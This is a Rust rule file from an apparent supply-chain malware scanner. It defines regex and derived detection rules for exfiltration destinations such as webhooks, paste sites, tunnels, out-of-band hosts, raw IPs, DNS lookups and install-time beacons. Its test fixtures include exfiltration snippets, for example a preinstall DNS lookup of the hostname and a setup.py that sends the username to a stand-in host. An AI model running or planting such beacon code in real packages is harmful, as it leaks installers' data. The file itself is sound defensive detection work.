//! Suspicious destinations: where stealers send data.

use crate::rule::{Family, Langs, Rule, Target, derived, fires, pattern, quiet};
use chainwarden_core::{Confidence, Severity};

const F: Family = Family::Destination;
const WHY: &str = "Stealers send loot to webhooks, paste sites, tunnels and out-of-band test \
hosts because they need no server of their own.";
const REFS: &[&str] = &["https://attack.mitre.org/techniques/T1567/"];

pub const WEBHOOK: Rule = pattern(
    "heuristic/destination-webhook",
    F,
    Severity::Medium,
    Confidence::Medium,
    "Sends to a chat webhook or bot API (Discord, Slack, Telegram, webhook.site)",
    WHY,
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:\bdiscord(?:app)?\.com/api/webhooks|\bhooks\.slack\.com/services|\bapi\.telegram\.org/bot|\bwebhook\.site\b)",
    &[
        fires("a.py", "requests.post('https://discord.com/api/webhooks/1/abc', json=d)"),
        fires("a.js", "const u = 'https://api.telegram.org/bot' + t + '/sendMessage';"),
        quiet("a.py", "# https://discord.com/api/webhooks/\nx = 1"),
        quiet("a.py", "u = 'https://nothooks.slack.com/services/T0/B0/X'"),
    ],
)
.refs(REFS);

pub const PASTE: Rule = pattern(
    "heuristic/destination-paste-site",
    F,
    Severity::Medium,
    Confidence::Medium,
    "Uses a paste or anonymous file-drop site",
    WHY,
    Langs::ALL,
    Target::Strings,
    r"(?i)\b(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|transfer\.sh|termbin\.com|rentry\.co|0x0\.st|file\.io|anonfiles\.com|gofile\.io|bashupload\.com)\b",
    &[
        fires("a.py", "u = 'https://pastebin.com/raw/abc'"),
        quiet("a.py", "paste = clipboard.paste()"),
    ],
)
.refs(REFS);

pub const TUNNEL: Rule = pattern(
    "heuristic/destination-tunnel",
    F,
    Severity::Medium,
    Confidence::Medium,
    "Uses a tunnelling service (ngrok, trycloudflare, serveo, localtunnel)",
    WHY,
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:[\w-]+\.ngrok(?:-free)?\.(?:io|app|dev)\b|[\w-]+\.trycloudflare\.com\b|\bserveo\.net\b|\blocalhost\.run\b|[\w-]+\.loca\.lt\b)",
    &[
        fires("a.py", "u = 'https://ab12.ngrok-free.app/x'"),
        quiet("a.py", "import pyngrok"),
    ],
)
.refs(REFS);

pub const OAST: Rule = pattern(
    "heuristic/destination-oast",
    F,
    Severity::Medium,
    Confidence::High,
    "Calls out-of-band test hosts (requestbin, pipedream, interactsh, Burp Collaborator, OAST, canarytokens)",
    "Out-of-band interaction hosts are used to confirm execution and exfiltrate; libraries never call them.",
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:\brequestbin\.\w+|\bpipedream\.net\b|\binteract\.sh\b|\.oast\.(?:fun|me|pro|live|site|online)\b|\bburpcollaborator\.net\b|\boastify\.com\b|\bcanarytokens\.com\b|\bdnslog\.cn\b|\bceye\.io\b|\bbeeceptor\.com\b)",
    &[
        fires("a.js", "dns.lookup(hex + '.abc.oast.fun', () => {})"),
        fires("a.py", "requests.get('https://eo1.m.pipedream.net')"),
        quiet("a.py", "pipe = dream()"),
    ],
)
.refs(REFS);

pub const RAW_IP: Rule = pattern(
    "heuristic/destination-raw-ip",
    F,
    Severity::Low,
    Confidence::Medium,
    "A URL to a public raw IP address",
    "Command-and-control servers are often reached by bare IP; libraries use host names.",
    Langs::ALL,
    Target::Strings,
    r"(?i)\b(?:https?|tcp|wss?|ftp)://(?:\d{1,3}\.){3}\d{1,3}\b",
    &[
        fires("a.py", "u = 'http://45.61.12.7:8080/x'"),
        quiet("a.py", "u = 'http://127.0.0.1:8000/'"),
        quiet("a.py", "u = 'http://192.168.1.1/'"),
        quiet("a.py", "u = 'http://169.254.169.254/'"),
    ],
)
.accept(is_public_ip_url)
.refs(REFS);

/// Keeps only public, routable IPv4 addresses.
fn is_public_ip_url(m: &str) -> bool {
    let host = m.rsplit("://").next().unwrap_or_default();
    let octets: Vec<u8> = host.split('.').filter_map(|p| p.parse().ok()).collect();
    let [a, b, ..] = octets[..] else {
        return false;
    };
    if octets.len() != 4 {
        return false;
    }
    !(a == 0
        || a == 10
        || a == 127
        || a >= 224
        || (a == 169 && b == 254)
        || (a == 172 && (16..=31).contains(&b))
        || (a == 192 && b == 168)
        || (a == 100 && (64..=127).contains(&b)))
}

pub const DNS_EXFIL: Rule = derived(
    "heuristic/destination-dns-exfil",
    F,
    Severity::High,
    Confidence::Medium,
    "Resolves a DNS name in a file that reads the host or user name (data leaves in the query)",
    "A lookup of `<hostname>.<attacker domain>` sends machine data through any firewall; \
dependency-confusion probes and stealers use it.",
    &[
        fires(
            "package/preinstall.js",
            "const os = require('os');\nconst dns = require('dns');\ndns.lookup(`${os.hostname()}.x.example`, () => {});\n",
        ),
        quiet(
            "package/lib/net.js",
            "const dns = require('dns');\ndns.lookup(host, cb);\n",
        ),
    ],
)
.refs(REFS);

pub const HOST_BEACON: Rule = derived(
    "heuristic/destination-install-host-beacon",
    F,
    Severity::High,
    Confidence::Medium,
    "Install-time code (setup.py, a file an npm install script runs) reads the host or user name and makes a network call",
    "Installing a package never needs to report who installs it where; \
dependency-confusion probes and stealers send exactly that.",
    &[
        fires(
            "setup.py",
            "import getpass, urllib.request\ndef f():\n    u = getpass.getuser()\n    urllib.request.urlopen('http://x.example/?u=' + u)\nf()\nsetup(name='x')\n",
        ),
        quiet(
            "pkg/telemetry.py",
            "import getpass, requests\nrequests.post(URL, json={'user': getpass.getuser()})\n",
        ),
        quiet("setup.py", "import getpass\nauthor = getpass.getuser()\nsetup(name='x')\n"),
    ],
)
.refs(REFS);

pub const RULES: &[Rule] = &[WEBHOOK, PASTE, TUNNEL, OAST, RAW_IP, DNS_EXFIL, HOST_BEACON];
